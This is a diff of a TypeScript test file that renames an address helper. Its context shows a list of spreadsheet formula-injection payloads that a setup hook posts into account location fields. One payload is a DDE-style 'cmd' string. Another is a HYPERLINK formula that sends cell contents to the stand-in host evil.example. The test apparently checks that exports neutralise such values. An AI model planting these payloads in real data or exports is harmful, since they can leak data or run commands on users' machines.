@@ -19,7 +19,7 @@ const payloads = [
   '＝cmd|1',
   '=HYPERLINK("http://evil.example/?"&A1,"open")',
 ];
-const place = (addressLine1: string) => ({ addressLine1, city: 'Harlow', state: 'CT', zip: '06415' });
+const addressAt = (addressLine1: string) => ({ addressLine1, city: 'Harlow', state: 'CT', zip: '06415' });
 
 const request = (path: string, init: { method?: string; body?: object } = {}) =>
   fetch(`${product.url}${path.replace('{account}', admin.accountId)}`, {
@@ -46,7 +46,7 @@ beforeAll(async () => {
       });
   for (const payload of payloads)
     await post('/pws/rest/accounts/{account}/locations', {
-      ...place(payload),
+      ...addressAt(payload),
       name: payload,
       contact: { firstName: payload, lastName: payload },
     });
